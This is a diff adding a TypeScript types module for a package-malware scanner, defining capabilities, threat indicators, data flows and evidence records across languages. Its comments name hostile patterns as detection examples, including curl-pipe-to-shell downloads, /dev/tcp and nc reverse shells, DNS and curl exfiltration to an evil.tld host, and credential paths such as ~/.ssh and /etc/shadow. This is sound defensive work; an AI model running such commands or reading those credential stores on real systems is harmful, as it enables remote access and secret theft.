@@ -1,0 +1,127 @@
+// Facts: what the analyzers observe in a package, in one vocabulary for every language.
+
+/** Things code can do. A capability alone is rarely malicious; rules combine them with indicators. */
+export type Capability =
+  | 'process' // runs programs or shells
+  | 'network' // HTTP, sockets, fetch, mail
+  | 'dns' // resolves names it builds
+  | 'env-read' // reads a named environment variable
+  | 'env-dump' // serialises or iterates the whole environment
+  | 'dynamic-code' // eval, exec, Function, compile, vm
+  | 'decode' // base64, hex, zlib, marshal, char codes
+  | 'fs-read'
+  | 'fs-write'
+  | 'system-info' // hostname, user name, home, platform, interfaces
+  | 'native-load' // ctypes, dlopen
+  | 'input-capture' // keyboard hooks, clipboard, screenshots
+  | 'credential-decrypt' // CryptUnprotectData and friends
+
+/** Threat indicators: values whose presence says something about intent. */
+export type IndicatorKind =
+  | 'raw-ip-url' // URL to a public IP address
+  | 'webhook' // Discord, Slack, Telegram bot endpoints…
+  | 'paste-site'
+  | 'tunnel-host' // ngrok, serveo, trycloudflare…
+  | 'oast-host' // out-of-band testing and request-capture services
+  | 'ip-lookup' // what-is-my-IP services
+  | 'executable-url' // URL of an .exe/.ps1/.bat/… download
+  | 'registry-url' // a package index (PyPI, npm, RubyGems): what bootstrap installers legitimately fetch
+  | 'sensitive-path' // ~/.ssh, ~/.aws/credentials, .npmrc, /etc/shadow…
+  | 'browser-store' // browser credential and cookie databases
+  | 'discord-store' // Discord token storage
+  | 'wallet-path' // crypto wallet files and extensions
+  | 'shell-download' // curl|sh, wget -O- | bash, certutil -urlcache…
+  | 'reverse-shell' // /dev/tcp, nc -e, pty.spawn over a socket
+  | 'shell-exfil' // nslookup `hostname`.evil.tld, curl -d "$(env)" …
+  | 'powershell' // hidden/encoded PowerShell, IEX, DownloadString
+  | 'persistence' // shell rc files, cron, Run keys, LaunchAgents
+  | 'encoded-blob' // long base64/hex literal
+  | 'obfuscation' // obfuscator.io identifiers, packers, JSFuck
+
+/** `env`: the whole environment; `env-secret`: one secret-looking variable (a token sent to its own API is normal at run time). */
+export type FlowSource = 'decode' | 'env' | 'env-secret' | 'sensitive-file' | 'system-info' | 'network-response'
+export type FlowSink = 'dynamic-code' | 'process' | 'network' | 'fs-write' | 'dns'
+
+export interface Evidence {
+  readonly line: number
+  /** The source line (trimmed, bounded) where it was seen. */
+  readonly excerpt: string
+  /** The top-level function (or `Class`) it sits in; absent for module-level code. */
+  readonly fn?: string
+}
+
+export interface CapabilityUse extends Evidence {
+  readonly cap: Capability
+  /** The API as resolved through imports: 'child_process.exec', 'requests.post', 'eval'… */
+  readonly api: string
+}
+
+export interface Indicator extends Evidence {
+  readonly kind: IndicatorKind
+  readonly value: string
+  /** The value is handed to a process or an evaluator, not merely present (a help text, a regex). */
+  readonly executed?: boolean
+}
+
+export interface Flow extends Evidence {
+  readonly source: FlowSource
+  readonly sink: FlowSink
+  readonly api: string
+}
+
+export type Language = 'javascript' | 'python' | 'shell' | 'text'
+
+/** When a file runs: at install, when the package is loaded, or only if something calls it. */
+export type Role = 'install' | 'import' | 'runtime'
+
+export interface FileFacts {
+  readonly path: string
+  readonly language: Language
+  readonly capabilities: CapabilityUse[]
+  readonly indicators: Indicator[]
+  readonly flows: Flow[]
+  /** Local modules this file loads (relative paths or module names), to follow install/import closures. */
+  readonly localImports: string[]
+  /**
+   * Top-level functions and classes that module-level code calls or references (directly or through
+   * each other). Code in other functions runs only if something outside calls it. Absent: all of it runs.
+   */
+  readonly reachable?: string[]
+  readonly parseError?: string
+}
+
+/** Whether evidence sits in code that runs when the file runs. */
+export function isReachable(facts: FileFacts, evidence: Evidence): boolean {
+  return evidence.fn === undefined || facts.reachable === undefined || facts.reachable.includes(evidence.fn)
+}
+
+export interface HookFacts {
+  readonly phase: string
+  readonly command: string
+  /** Files of the package the hook runs. */
+  readonly files: string[]
+}
+
+export interface PackageFacts {
+  readonly ecosystem: string
+  readonly name: string
+  readonly version: string
+  readonly files: readonly FileFacts[]
+  readonly roles: ReadonlyMap<string, Role>
+  readonly hooks: readonly HookFacts[]
+  /** Executables (ELF, PE, Mach-O) bundled in the package. */
+  readonly binaries: readonly string[]
+  readonly fileCount: number
+}
+
+export function roleOf(facts: PackageFacts, path: string): Role {
+  return facts.roles.get(path) ?? 'runtime'
+}
+
+/** Bounded one-line excerpt of a source line for evidence. */
+export function excerptOf(lines: readonly string[], line: number, column = 0): string {
+  const text = (lines[line - 1] ?? '').trim()
+  if (text.length <= 160) return text
+  const start = Math.max(0, Math.min(column - 60, text.length - 160))
+  return `${start > 0 ? '…' : ''}${text.slice(start, start + 160)}…`
+}
